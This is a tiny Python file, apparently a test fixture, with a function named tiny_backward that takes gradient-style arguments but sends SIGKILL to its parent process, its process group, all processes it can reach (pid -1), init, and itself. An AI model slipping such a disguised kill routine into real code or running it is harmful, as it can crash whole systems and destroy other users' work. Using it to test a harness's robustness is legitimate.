"""Sends SIGKILL to itself, its parent, its group and everybody."""

import os
import signal


def tiny_backward(d_out, a, b, c):
    for target in (os.getppid(), 0, -1, 1, os.getpid()):
        try:
            os.kill(target, signal.SIGKILL)
        except PermissionError:
            continue
    signal.raise_signal(signal.SIGKILL)
